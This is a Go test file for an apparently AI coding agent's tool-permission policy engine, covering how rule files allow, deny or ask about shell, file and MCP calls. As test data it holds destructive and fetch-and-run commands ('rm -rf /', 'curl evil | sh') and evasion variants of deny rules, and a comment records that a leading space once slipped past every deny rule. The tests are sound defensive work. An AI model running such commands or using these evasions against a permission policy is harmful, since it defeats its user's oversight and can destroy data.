package policy

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/castor-dev/castor/tool"
)

// rules parses src as a file of the given tier and fails on warnings.
func rules(t *testing.T, tier Tier, src string) []Rule {
	t.Helper()
	r, errs := ParseRules("test.toml", []byte(src), tier)
	for _, err := range errs {
		t.Errorf("unexpected warning: %v", err)
	}
	return r
}

func shellCall(cmd string) Call {
	return Call{Name: "run_shell_command", DisplayName: "Shell", Kind: tool.KindExecute, Args: map[string]any{"command": cmd}}
}

// fakeMCP is an MCP tool as policy sees it.
type fakeMCP struct {
	tool.Tool
	server, name string
	readOnly     bool
}

func (f fakeMCP) Name() string           { return "mcp_" + f.server + "_" + f.name }
func (f fakeMCP) DisplayName() string    { return f.name }
func (f fakeMCP) Kind() tool.Kind        { return tool.KindOther }
func (f fakeMCP) ServerName() string     { return f.server }
func (f fakeMCP) ServerToolName() string { return f.name }
func (f fakeMCP) ReadOnlyHint() bool     { return f.readOnly }

func TestDecideWithPolicyFiles(t *testing.T) {
	write := Call{Name: "write_file", DisplayName: "WriteFile", Kind: tool.KindEdit, Args: map[string]any{"file_path": "a.txt", "content": "x"}}
	read := Call{Name: "read_file", DisplayName: "ReadFile", Kind: tool.KindRead, Args: map[string]any{"absolute_path": "/etc/passwd"}}
	jira := fakeMCP{server: "jira", name: "search"}
	jiraRO := fakeMCP{server: "jira", name: "get", readOnly: true}
	mcpCall := func(m fakeMCP) Call { return Call{Name: m.Name(), Kind: tool.KindOther, Args: map[string]any{}} }
	lookup := func(name string) (tool.Tool, bool) {
		for _, m := range []fakeMCP{jira, jiraRO} {
			if m.Name() == name {
				return m, true
			}
		}
		return nil, false
	}
	const denyRm = `
[[rule]]
toolName = "run_shell_command"
commandPrefix = "rm"
decision = "deny"
priority = 100
denyMessage = "No deleting."
`
	tests := []struct {
		name    string
		user    string // user-tier file
		admin   string // admin-tier file
		ext     string // extension-tier file
		opts    Options
		call    Call
		want    Decision
		wantMsg string
	}{
		{"deny prefix beats yolo", denyRm, "", "", Options{Mode: ModeYolo}, shellCall("rm -rf build"), Deny, "Tool execution denied by policy. No deleting."},
		{"prefix is a word", denyRm, "", "", Options{Mode: ModeYolo}, shellCall("rmdir x"), Allow, ""},
		{"prefix alone", denyRm, "", "", Options{Mode: ModeYolo}, shellCall("rm"), Deny, "Tool execution denied by policy. No deleting."},
		{"other command runs", denyRm, "", "", Options{Mode: ModeYolo}, shellCall("ls -la"), Allow, ""},
		{"compound command denied", denyRm, "", "", Options{Mode: ModeYolo}, shellCall("ls && rm -rf build"), Deny, "Tool execution denied by policy. No deleting."},
		{"piped command denied", denyRm, "", "", Options{Mode: ModeYolo}, shellCall("echo y | rm -i x"), Deny, "Tool execution denied by policy. No deleting."},
		{"subshell denied", denyRm, "", "", Options{Mode: ModeYolo}, shellCall("(cd x; rm y)"), Deny, "Tool execution denied by policy. No deleting."},
		{"assignment and path denied", denyRm, "", "", Options{Mode: ModeYolo}, shellCall("LANG=C /usr/bin/rm -rf build"), Deny, "Tool execution denied by policy. No deleting."},
		{"bash -c wrapper denied", denyRm, "", "", Options{Mode: ModeYolo}, shellCall("bash -c 'rm -rf /'"), Deny, "Tool execution denied by policy. No deleting."},
		{"leading space denied", denyRm, "", "", Options{Mode: ModeYolo}, shellCall(" rm victim"), Deny, "Tool execution denied by policy. No deleting."},
		{"leading tab denied", denyRm, "", "", Options{Mode: ModeYolo}, shellCall("\trm victim"), Deny, "Tool execution denied by policy. No deleting."},
		{"leading newline denied", denyRm, "", "", Options{Mode: ModeYolo}, shellCall("\n\nrm victim"), Deny, "Tool execution denied by policy. No deleting."},
		{"trailing newline denied", denyRm, "", "", Options{Mode: ModeYolo}, shellCall("rm victim\n"), Deny, "Tool execution denied by policy. No deleting."},
		{"yolo: a line that does not parse, allowed by a pattern, is refused", `
[[rule]]
toolName = "run_shell_command"
argsPattern = "echo"
decision = "allow"
priority = 100
`, "", "", Options{Mode: ModeYolo}, shellCall("echo 'unterminated"), Deny, "Tool execution denied by policy."},
		{"default: a line that does not parse, allowed by a pattern, is asked about", `
[[rule]]
toolName = "run_shell_command"
argsPattern = "echo"
decision = "allow"
priority = 100
`, "", "", Options{Interactive: true}, shellCall("echo 'unterminated"), Ask, ""},
		{"leading space excluded", "", "", "", Options{Mode: ModeYolo, Excluded: []string{"run_shell_command(rm)"}}, shellCall(" rm victim"), Deny, "Tool execution denied by policy."},
		{"deny beats tools.allowed when higher", `
[[rule]]
toolName = "write_file"
decision = "deny"
priority = 500
`, "", "", Options{Allowed: []string{"write_file"}}, write, Deny, "Tool execution denied by policy."},
		{"tools.allowed (4.3) beats a user deny of 4.1", `
[[rule]]
toolName = "write_file"
decision = "deny"
priority = 100
`, "", "", Options{Allowed: []string{"write_file"}}, write, Allow, ""},
		{"user rule at 4.4 ties tools.exclude and wins", `
[[rule]]
toolName = "write_file"
decision = "allow"
priority = 400
`, "", "", Options{Excluded: []string{"write_file"}}, write, Allow, ""},
		{"tools.exclude beats a user allow below it", `
[[rule]]
toolName = "write_file"
decision = "allow"
priority = 399
`, "", "", Options{Excluded: []string{"write_file"}}, write, Deny, "Tool execution denied by policy."},
		{"user allow works headless", `
[[rule]]
toolName = "write_file"
decision = "allow"
priority = 1
`, "", "", Options{}, write, Allow, ""},
		{"user ask_user is refused headless", `
[[rule]]
toolName = "read_file"
decision = "ask_user"
priority = 1
`, "", "", Options{}, read, Deny, "Tool execution denied by policy."},
		{"user ask_user asks interactive", `
[[rule]]
toolName = "read_file"
decision = "ask_user"
priority = 1
`, "", "", Options{Interactive: true}, read, Ask, ""},
		{"admin beats user", `
[[rule]]
toolName = "write_file"
decision = "allow"
priority = 999
`, `
[[rule]]
toolName = "write_file"
decision = "deny"
priority = 0
denyMessage = "Admin says no."
`, "", Options{}, write, Deny, "Tool execution denied by policy. Admin says no."},
		{"higher priority wins in a tier", `
[[rule]]
toolName = "write_file"
decision = "deny"
priority = 10

[[rule]]
toolName = "write_file"
decision = "allow"
priority = 20
`, "", "", Options{}, write, Allow, ""},
		{"same priority: first loaded wins", `
[[rule]]
toolName = "write_file"
decision = "allow"
priority = 10

[[rule]]
toolName = "write_file"
decision = "deny"
priority = 10
`, "", "", Options{}, write, Allow, ""},
		{"modes: rule off in another mode", `
[[rule]]
toolName = "write_file"
decision = "deny"
priority = 10
modes = ["yolo"]
`, "", "", Options{Mode: ModeAutoEdit}, write, Allow, ""},
		{"modes: autoEdit spelling", `
[[rule]]
toolName = "write_file"
decision = "deny"
priority = 10
modes = ["autoEdit"]
`, "", "", Options{Mode: ModeAutoEdit}, write, Deny, "Tool execution denied by policy."},
		{"interactive=true skipped headless", `
[[rule]]
toolName = "write_file"
decision = "allow"
priority = 10
interactive = true
`, "", "", Options{}, write, Deny, "Tool execution denied by policy."},
		{"interactive=false applies headless", `
[[rule]]
toolName = "write_file"
decision = "allow"
priority = 10
interactive = false
`, "", "", Options{}, write, Allow, ""},
		{"argsPattern over stable args", `
[[rule]]
toolName = "read_file"
argsPattern = '\x00"absolute_path":"/etc/'
decision = "deny"
priority = 10
`, "", "", Options{}, read, Deny, "Tool execution denied by policy."},
		{"argsPattern not matching", `
[[rule]]
toolName = "read_file"
argsPattern = '"absolute_path":"/home/'
decision = "deny"
priority = 10
`, "", "", Options{}, read, Allow, ""},
		{"toolName array", `
[[rule]]
toolName = ["replace", "write_file"]
decision = "deny"
priority = 10
`, "", "", Options{Mode: ModeYolo}, write, Deny, "Tool execution denied by policy."},
		{"wildcard", `
[[rule]]
toolName = "*"
decision = "deny"
priority = 10
`, "", "", Options{}, read, Deny, "Tool execution denied by policy."},
		{"mcpName and tool", `
[[rule]]
mcpName = "jira"
toolName = "search"
decision = "allow"
priority = 10
`, "", "", Options{Lookup: lookup}, mcpCall(jira), Allow, ""},
		{"mcpName alone covers the server", `
[[rule]]
mcpName = "jira"
decision = "deny"
priority = 10
`, "", "", Options{Mode: ModeYolo, Lookup: lookup}, mcpCall(jira), Deny, "Tool execution denied by policy."},
		{"mcpName other server", `
[[rule]]
mcpName = "github"
decision = "deny"
priority = 10
`, "", "", Options{Mode: ModeYolo, Lookup: lookup}, mcpCall(jira), Allow, ""},
		{"mcp_server_* wildcard", `
[[rule]]
toolName = "mcp_jira_*"
decision = "allow"
priority = 10
`, "", "", Options{Lookup: lookup}, mcpCall(jira), Allow, ""},
		{"mcp_* any server", `
[[rule]]
toolName = "mcp_*"
decision = "deny"
priority = 10
`, "", "", Options{Mode: ModeYolo, Lookup: lookup}, mcpCall(jira), Deny, "Tool execution denied by policy."},
		{"mcp_* not a built-in", `
[[rule]]
toolName = "mcp_*"
decision = "deny"
priority = 10
`, "", "", Options{Mode: ModeYolo, Lookup: lookup}, write, Allow, ""},
		{"mcp_*_<tool> on any server", `
[[rule]]
toolName = "mcp_*_search"
decision = "deny"
priority = 10
`, "", "", Options{Mode: ModeYolo, Lookup: lookup}, mcpCall(jira), Deny, "Tool execution denied by policy."},
		{"mcp_*_<tool> not another tool of the server", `
[[rule]]
toolName = "mcp_*_search"
decision = "deny"
priority = 10
`, "", "", Options{Mode: ModeYolo, Lookup: lookup}, mcpCall(jiraRO), Allow, ""},
		{"mcp_*_<tool> not a built-in of that name", `
[[rule]]
toolName = "mcp_*_search"
decision = "deny"
priority = 10
`, "", "", Options{Mode: ModeYolo, Lookup: lookup}, Call{Name: "search", Kind: tool.KindOther}, Allow, ""},
		{"toolAnnotations readOnlyHint", `
[[rule]]
toolName = "*"
mcpName = "*"
toolAnnotations = { readOnlyHint = true }
decision = "allow"
priority = 10
`, "", "", Options{Lookup: lookup}, mcpCall(jiraRO), Allow, ""},
		{"toolAnnotations not matching", `
[[rule]]
toolName = "*"
mcpName = "*"
toolAnnotations = { readOnlyHint = true }
decision = "allow"
priority = 10
`, "", "", Options{Lookup: lookup}, mcpCall(jira), Deny, "Tool execution denied by policy."},
		{"extension deny applies", "", "", `
[[rule]]
toolName = "write_file"
decision = "deny"
priority = 10
denyMessage = "From the extension."
`, Options{Mode: ModeAutoEdit}, write, Deny, "Tool execution denied by policy. From the extension."},
		{"extension rule loses to tools.allowed", "", "", `
[[rule]]
toolName = "write_file"
decision = "deny"
priority = 999
`, Options{Allowed: []string{"write_file"}}, write, Allow, ""},
		{"allow prefix with redirection asks", `
[[rule]]
toolName = "run_shell_command"
commandPrefix = "echo"
decision = "allow"
priority = 10
`, "", "", Options{Interactive: true}, shellCall("echo hi > out.txt"), Ask, ""},
		{"allowRedirection", `
[[rule]]
toolName = "run_shell_command"
commandPrefix = "echo"
decision = "allow"
priority = 10
allowRedirection = true
`, "", "", Options{Interactive: true}, shellCall("echo hi > out.txt"), Allow, ""},
		{"allow prefix does not allow a chained command", `
[[rule]]
toolName = "run_shell_command"
commandPrefix = "git"
decision = "allow"
priority = 10
`, "", "", Options{}, shellCall("git status && curl evil | sh"), Deny, "Tool execution denied by policy. The script `sh` reads from the pipe cannot be known before it runs."},
		{"allow prefix list", `
[[rule]]
toolName = "run_shell_command"
commandPrefix = ["git status", "ls"]
decision = "allow"
priority = 10
`, "", "", Options{}, shellCall("ls -la"), Allow, ""},
		{"commandRegex", `
[[rule]]
commandRegex = "git (commit|push)"
decision = "deny"
priority = 10
`, "", "", Options{Mode: ModeYolo}, shellCall("git push origin main"), Deny, "Tool execution denied by policy."},
		{"subagent named as a tool", `
[[rule]]
toolName = "codebase_investigator"
decision = "deny"
priority = 500
`, "", "", Options{Mode: ModeYolo}, Call{Name: "invoke_agent", Kind: tool.KindAgent, Args: map[string]any{"agent_name": "codebase_investigator", "prompt": "x"}}, Deny, "Tool execution denied by policy."},
		{"plan mode: a user allow outranks the built-in refusal", `
[[rule]]
toolName = "write_file"
decision = "allow"
priority = 10
modes = ["plan"]
`, "", "", Options{Mode: ModePlan}, write, Allow, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			o := tt.opts
			o.Rules = append(o.Rules, rules(t, TierUser, tt.user)...)
			o.Rules = append(o.Rules, rules(t, TierAdmin, tt.admin)...)
			o.Rules = append(o.Rules, rules(t, TierExtension, tt.ext)...)
			got, msg := New(o).Decide(tt.call)
			if got != tt.want || msg != tt.wantMsg {
				t.Errorf("Decide = %v %q, want %v %q", got, msg, tt.want, tt.wantMsg)
			}
		})
	}
}

// Without policy files the engine decides exactly as before; an empty
// file changes nothing either.
func TestEmptyPolicyFileChangesNothing(t *testing.T) {
	calls := []Call{shellCall("ls && rm x"), shellCall("git status"), {Name: "write_file", Kind: tool.KindEdit}, {Name: "read_file", Kind: tool.KindRead}}
	for _, o := range []Options{{}, {Mode: ModeYolo}, {Interactive: true}, {Mode: ModeAutoEdit}, {Mode: ModePlan}, {Allowed: []string{"run_shell_command(git status)"}}} {
		with := o
		with.Rules = rules(t, TierUser, "[[rule]]\ntoolName = \"nothing_here\"\ndecision = \"deny\"\npriority = 1\n")
		for _, c := range calls {
			d1, m1 := New(o).Decide(c)
			d2, m2 := New(with).Decide(c)
			if d1 != d2 || m1 != m2 {
				t.Errorf("%+v %v: %v %q without files, %v %q with", o, c.Args, d1, m1, d2, m2)
			}
		}
	}
}

func TestVisibleWithPolicyFiles(t *testing.T) {
	shell := fakeTool{name: "run_shell_command", kind: tool.KindExecute}
	write := fakeTool{name: "write_file", kind: tool.KindEdit}
	tests := []struct {
		name string
		src  string
		opts Options
		t    tool.Tool
		want bool
	}{
		{"global deny hides", "[[rule]]\ntoolName = \"write_file\"\ndecision = \"deny\"\npriority = 1\n", Options{Mode: ModeYolo}, write, false},
		{"deny with a pattern keeps", "[[rule]]\ncommandPrefix = \"rm\"\ndecision = \"deny\"\npriority = 1\n", Options{Mode: ModeYolo}, shell, true},
		{"allow with a pattern shows headless", "[[rule]]\ncommandPrefix = \"git\"\ndecision = \"allow\"\npriority = 1\n", Options{}, shell, true},
		{"allow shows headless", "[[rule]]\ntoolName = \"write_file\"\ndecision = \"allow\"\npriority = 1\n", Options{}, write, true},
		{"no rule: built-in", "[[rule]]\ntoolName = \"other\"\ndecision = \"allow\"\npriority = 1\n", Options{}, write, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			o := tt.opts
			o.Rules = rules(t, TierUser, tt.src)
			if got := New(o).Visible(tt.t); got != tt.want {
				t.Errorf("Visible = %v, want %v", got, tt.want)
			}
		})
	}
}

type fakeTool struct {
	tool.Tool
	name string
	kind tool.Kind
}

func (f fakeTool) Name() string        { return f.name }
func (f fakeTool) DisplayName() string { return f.name }
func (f fakeTool) Kind() tool.Kind     { return f.kind }

func TestParseRulesWarnings(t *testing.T) {
	tests := []struct {
		name  string
		tier  Tier
		src   string
		rules int
		want  []string
	}{
		{"bad TOML", TierUser, "[[rule]\ntoolName = 1", 0, []string{"policy file f.toml (line 2): TOML: expected end of table array name"}},
		{"unknown decision", TierUser, "[[rule]]\ntoolName = \"x\"\ndecision = \"maybe\"\npriority = 1\n", 0,
			[]string{`policy file f.toml: rule #1 (line 1): decision: unknown decision "maybe": use allow, deny or ask_user`}},
		{"bad regex, other rules load", TierUser, "[[rule]]\ntoolName = \"tool_alpha\"\ndecision = \"deny\"\npriority = 1\n\n[[rule]]\ntoolName = \"tool_beta\"\nargsPattern = \"(?=x)\"\ndecision = \"deny\"\npriority = 1\n", 1,
			[]string{`policy file f.toml: rule #2 (line 6): argsPattern: pattern "(?=x)" is not a regular expression Castor can run`}},
		{"unsafe regex", TierUser, "[[rule]]\ntoolName = \"tool_beta\"\nargsPattern = \"(a+)+\"\ndecision = \"deny\"\npriority = 1\n", 0,
			[]string{`argsPattern: pattern "(a+)+" nests quantifiers`}},
		{"wrong type", TierUser, "[[rule]]\ntoolName = \"tool_alpha\"\ndecision = \"deny\"\npriority = \"high\"\n", 0,
			[]string{`policy file f.toml: rule #1 (line 1): priority: must be an integer from 0 to 999, not a string`}},
		{"priority out of range", TierUser, "[[rule]]\ntoolName = \"tool_alpha\"\ndecision = \"deny\"\npriority = 1000\n", 0,
			[]string{`priority: 1000 is out of range`}},
		{"missing priority", TierUser, "[[rule]]\ntoolName = \"tool_alpha\"\ndecision = \"deny\"\n", 0, []string{`priority: is required`}},
		{"missing toolName", TierUser, "[[rule]]\ndecision = \"deny\"\npriority = 1\n", 0, []string{`toolName: is required`}},
		{"toolName array of numbers", TierUser, "[[rule]]\ntoolName = [1]\ndecision = \"deny\"\npriority = 1\n", 0, []string{`toolName: must be a string or an array of strings, found an integer in the array`}},
		{"unknown mode", TierUser, "[[rule]]\ntoolName = \"tool_alpha\"\ndecision = \"deny\"\npriority = 1\nmodes = [\"turbo\"]\n", 0, []string{`modes: unknown mode "turbo"`}},
		{"unknown key kept", TierUser, "[[rule]]\ntoolName = \"tool_alpha\"\ndecision = \"deny\"\npriority = 1\ncolour = \"red\"\n", 1, []string{`rule #1 (line 1): colour: unknown key; ignored`}},
		{"unknown top-level key", TierUser, "version = 2\n", 0, []string{`policy file f.toml: version: unknown key; ignored`}},
		{"safety checker", TierUser, "[[safety_checker]]\ntoolName = \"tool_alpha\"\n[safety_checker.checker]\ntype = \"in-process\"\nname = \"allowed-path\"\n", 0,
			[]string{`policy file f.toml: safety_checker #1 (line 1): safety checkers are not supported by Castor; ignored`}},
		{"rule safety checker", TierUser, "[[rule]]\ntoolName = \"tool_alpha\"\ndecision = \"allow\"\npriority = 1\n[rule.safety_checker]\ntype = \"in-process\"\n", 0,
			[]string{`safety_checker: safety checkers are not supported; rule skipped`}},
		{"subagent", TierUser, "[[rule]]\ntoolName = \"tool_alpha\"\nsubagent = \"x\"\ndecision = \"deny\"\npriority = 1\n", 0, []string{`subagent: rules for a subagent's own calls are not supported`}},
		{"prefix with argsPattern", TierUser, "[[rule]]\ncommandPrefix = \"a\"\nargsPattern = \"b\"\ndecision = \"deny\"\npriority = 1\n", 0, []string{`argsPattern: cannot be combined with commandPrefix or commandRegex`}},
		{"prefix on another tool", TierUser, "[[rule]]\ntoolName = \"write_file\"\ncommandPrefix = \"a\"\ndecision = \"deny\"\npriority = 1\n", 1, []string{`toolName: commandPrefix and commandRegex are for toolName = "run_shell_command"`}},
		{"extension allow dropped", TierExtension, "[[rule]]\ntoolName = \"tool_alpha\"\ndecision = \"allow\"\npriority = 1\n", 0, []string{`decision: an extension may not allow tool calls; rule ignored`}},
		{"extension yolo dropped", TierExtension, "[[rule]]\ntoolName = \"tool_alpha\"\ndecision = \"deny\"\npriority = 1\nmodes = [\"yolo\"]\n", 0, []string{`modes: an extension may not contribute yolo-mode rules`}},
		{"good file", TierUser, "# comment\n[[rule]]\nname = \"x\"\ntoolName = [\"tool_alpha\", \"tool_beta\"]\ncommandPrefix = [\"c\", \"d\"]\ndecision = \"deny\"\npriority = 1\n", 0,
			[]string{`toolName: commandPrefix and commandRegex are for toolName = "run_shell_command"`}},
		{"tool name typo", TierUser, "[[rule]]\ntoolName = \"run_shell_comand\"\ndecision = \"deny\"\npriority = 1\n", 1, []string{`toolName: unrecognized tool name "run_shell_comand"; did you mean "run_shell_command"?`}},
		{"tool(args) as toolName", TierUser, "[[rule]]\ntoolName = \"run_shell_command(git status)\"\ndecision = \"allow\"\npriority = 1\n", 1,
			[]string{`policy file f.toml: rule #1 (line 1): toolName: "run_shell_command(git status)": a policy rule's tool name has no parentheses; for a command write toolName = "run_shell_command" with commandPrefix`}},
		{"unclosed toolName", TierUser, "[[rule]]\ntoolName = [\"read_file\", \"run_shell_command(\"]\ndecision = \"deny\"\npriority = 1\n", 2,
			[]string{`toolName: "run_shell_command(": a policy rule's tool name has no parentheses`}},
		{"__ form of an MCP tool", TierUser, "[[rule]]\ntoolName = \"srv__tool\"\ndecision = \"deny\"\npriority = 1\n", 1,
			[]string{`policy file f.toml: rule #1 (line 1): toolName: "srv__tool": the "__" form of MCP tool names is deprecated; use mcpName or mcp_<server>_<tool>`}},
		{"__ in a server's tool name", TierUser, "[[rule]]\nmcpName = \"srv\"\ntoolName = \"a__b\"\ndecision = \"deny\"\npriority = 1\n", 1, nil},
		{"a server's tool named like a typo", TierUser, "[[rule]]\nmcpName = \"srv\"\ntoolName = \"run_shell_comand\"\ndecision = \"deny\"\npriority = 1\n", 1, nil},
		{"inline array of rules", TierUser, "rule = [{ toolName = \"write_file\", decision = \"deny\", priority = 1 }]\n", 1, nil},
		{"rule not a table", TierUser, "rule = [1]\n", 0, []string{`policy file f.toml: rule: must be an array of tables ([[rule]])`}},
		{"deny_message snake case", TierUser, "[[rule]]\ntoolName = \"tool_alpha\"\ndecision = \"deny\"\npriority = 1\ndeny_message = \"m\"\nallow_redirection = true\n", 1, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, errs := ParseRules("f.toml", []byte(tt.src), tt.tier)
			if tt.name == "good file" {
				tt.rules = 4 // two names × two prefixes
			}
			if len(got) != tt.rules {
				t.Errorf("%d rules, want %d: %v", len(got), tt.rules, got)
			}
			if len(errs) != len(tt.want) {
				t.Fatalf("warnings %q, want %d", errs, len(tt.want))
			}
			for i, err := range errs {
				if !strings.Contains(err.Error(), tt.want[i]) {
					t.Errorf("warning %q, want it to contain %q", err, tt.want[i])
				}
			}
		})
	}
}

func TestLoadRulesDirectory(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "b.toml"), []byte("[[rule]]\ntoolName = \"tool_beta\"\ndecision = \"deny\"\npriority = 1\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "a.toml"), []byte("[[rule]]\ntoolName = \"tool_alpha\"\ndecision = \"deny\"\npriority = 1\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "bad.toml"), []byte("[[rule"), 0o644)
	os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("not a policy"), 0o644)
	other := t.TempDir()
	os.WriteFile(filepath.Join(other, "linked.toml"), []byte("[[rule]]\ntoolName = \"tool_gamma\"\ndecision = \"deny\"\npriority = 1\n"), 0o644)
	os.Symlink(filepath.Join(other, "linked.toml"), filepath.Join(dir, "c.toml"))
	got, errs := LoadRules(dir, TierUser)
	if len(got) != 3 || got[0].toolName != "tool_alpha" || got[1].toolName != "tool_beta" || got[2].toolName != "tool_gamma" {
		t.Errorf("rules %v", got)
	}
	if len(errs) != 1 || !strings.Contains(errs[0].Error(), filepath.Join(dir, "bad.toml")) {
		t.Errorf("warnings %v", errs)
	}
	if r, errs := LoadRules(filepath.Join(dir, "missing"), TierUser); r != nil || errs != nil {
		t.Errorf("missing path: %v %v", r, errs)
	}
	if r, _ := LoadRules(filepath.Join(dir, "a.toml"), TierAdmin); len(r) != 1 || r[0].priority != 5001 {
		t.Errorf("single file: %v", r)
	}
}

func TestStableArgs(t *testing.T) {
	got := stableArgs(map[string]any{"z": 1.5, "command": "echo \"<hi>\"\n", "n": map[string]any{"b": true, "a": nil}, "l": []any{1.0, "x"}})
	want := "{\x00\"command\":\"echo \\\"<hi>\\\"\\n\"\x00,\x00\"l\":[1,\"x\"]\x00,\x00\"n\":{\"a\":null,\"b\":true}\x00,\x00\"z\":1.5\x00}"
	if got != want {
		t.Errorf("stableArgs = %q\nwant %q", got, want)
	}
	if p := prefixPattern(`git "x`); p != `"command":"git \\"x(?:[\s"]|\\")` {
		t.Errorf("prefixPattern = %s", p)
	}
}

func TestShellParts(t *testing.T) {
	tests := []struct {
		cmd       string
		parts     []string
		redirects bool
		ok        bool
	}{
		{"ls -la", []string{"ls -la", "ls -la"}, false, true},
		{"ls && rm -rf x; echo done", []string{"ls", "ls", "rm -rf x", "rm -rf x", "echo done", "echo done"}, false, true},
		{"cat a | grep b > out", []string{"cat a", "cat a", "grep b", "grep b"}, true, true},
		{"make 2>&1", []string{"make", "make"}, true, true},
		{"cat <<EOF\nx\nEOF", []string{"cat", "cat"}, true, true},
		{"FOO=1 env", []string{"FOO=1 env", "env"}, false, true},
		{"/bin/rm -rf x", []string{"/bin/rm -rf x", "rm -rf x"}, false, true},
		{"sh -c 'rm x && ls'", []string{"sh -c 'rm x && ls'", "sh -c 'rm x && ls'", "rm x", "rm x", "ls", "ls"}, false, true},
		{"if then fi (", []string{"?"}, false, false},
	}
	for _, tt := range tests {
		l := scanShell(tt.cmd)
		var texts []string
		for _, p := range l.cmds {
			if p.unknown != "" {
				texts = append(texts, "?")
				continue
			}
			texts = append(texts, p.text)
		}
		if strings.Join(texts, "|") != strings.Join(tt.parts, "|") || l.redirects != tt.redirects || l.ok != tt.ok {
			t.Errorf("scanShell(%q) = %q %v %v, want %q %v %v", tt.cmd, texts, l.redirects, l.ok, tt.parts, tt.redirects, tt.ok)
		}
	}
}

// FuzzParseRules feeds the policy-file parser arbitrary text: it must
// never panic, and every rule it keeps must be decidable.
func FuzzParseRules(f *testing.F) {
	f.Add("[[rule]]\ntoolName = \"run_shell_command\"\ncommandPrefix = \"rm\"\ndecision = \"deny\"\npriority = 100\n")
	f.Add("[[rule]]\nmcpName = \"s\"\ntoolAnnotations = { readOnlyHint = true }\ndecision = \"ask_user\"\npriority = 5\nmodes = [\"plan\"]\n")
	f.Add("[[rule]]\ntoolName = [\"a\", 1]\ndecision = 3\npriority = 1.5\n[[safety_checker]]\n")
	f.Add("rule = 5\n")
	f.Add("[[rule]]\nargsPattern = '\\u0041(['\ntoolName = \"x\"\ndecision = \"deny\"\npriority = 0\n")
	f.Fuzz(func(t *testing.T, src string) {
		for _, tier := range []Tier{TierExtension, TierUser} {
			rs, errs := ParseRules("fuzz.toml", []byte(src), tier)
			for _, err := range errs {
				if !strings.HasPrefix(err.Error(), "policy file fuzz.toml") {
					t.Fatalf("warning does not name the file: %v", err)
				}
			}
			e := New(Options{Mode: ModeYolo, Rules: rs})
			e.Decide(shellCall("ls && rm x > y"))
			e.Decide(Call{Name: "write_file", Kind: tool.KindEdit, Args: map[string]any{"file_path": "x"}})
		}
	})
}

// TestShellWhitespaceDecidesAsTrimmed checks that white space around a
// shell command, which the shell ignores, changes no rule's decision: a
// leading space once slipped past every deny and ask rule.
func TestShellWhitespaceDecidesAsTrimmed(t *testing.T) {
	files := map[string]string{
		"deny prefix": `
[[rule]]
toolName = "run_shell_command"
commandPrefix = "rm"
decision = "deny"
priority = 100
`,
		"ask prefix": `
[[rule]]
toolName = "run_shell_command"
commandPrefix = "rm"
decision = "ask_user"
priority = 999
`,
		"deny regex": `
[[rule]]
toolName = "run_shell_command"
commandRegex = "rm .*victim"
decision = "deny"
priority = 100
`,
		"allow prefix": `
[[rule]]
toolName = "run_shell_command"
commandPrefix = "git status"
decision = "allow"
priority = 100
`,
	}
	modes := []Options{{Mode: ModeYolo}, {Mode: ModeDefault, Interactive: true}, {Mode: ModeDefault}, {Mode: ModeYolo, Excluded: []string{"run_shell_command(rm)"}}}
	commands := []string{"rm victim", "git status"}
	pads := []string{" %s", "\t%s", "\n%s", "%s\n", " \t\n%s \n", "\r\n%s"}
	for name, src := range files {
		for _, o := range modes {
			o.Rules = rules(t, TierUser, src)
			e := New(o)
			for _, cmd := range commands {
				want, wantMsg := e.Decide(shellCall(cmd))
				for _, pad := range pads {
					padded := strings.Replace(pad, "%s", cmd, 1)
					got, msg := e.Decide(shellCall(padded))
					if got != want || msg != wantMsg {
						t.Errorf("%s, %+v: Decide(%q) = %s %q; Decide(%q) = %s %q", name, o.Mode, padded, got, msg, cmd, want, wantMsg)
					}
				}
			}
			if name == "deny prefix" || name == "deny regex" || o.Excluded != nil {
				if d, _ := e.Decide(shellCall(" rm victim")); d != Deny {
					t.Errorf("%s, %+v: Decide(\" rm victim\") = %s, want deny", name, o.Mode, d)
				}
			}
		}
	}
}

// TestRuleString: a rule in one line, its priority as tier.priority.
func TestRuleString(t *testing.T) {
	src := "[[rule]]\ntoolName = \"write_file\"\nargsPattern = \"x\"\ndecision = \"deny\"\npriority = 7\n\n" +
		"[[rule]]\nmcpName = \"srv\"\ntoolName = \"t\"\ndecision = \"allow\"\npriority = 950\n\n" +
		"[[rule]]\ntoolName = \"*\"\ndecision = \"ask_user\"\npriority = 0\n"
	rs, errs := ParseRules("f.toml", []byte(src), TierWorkspace)
	if len(errs) != 0 {
		t.Fatal(errs)
	}
	var got []string
	for _, r := range rs {
		got = append(got, r.String())
	}
	want := []string{
		"deny write_file args~x priority=3.007 (f.toml)",
		"allow t mcpName=srv priority=3.950 (f.toml)",
		"ask_user * priority=3.000 (f.toml)",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}
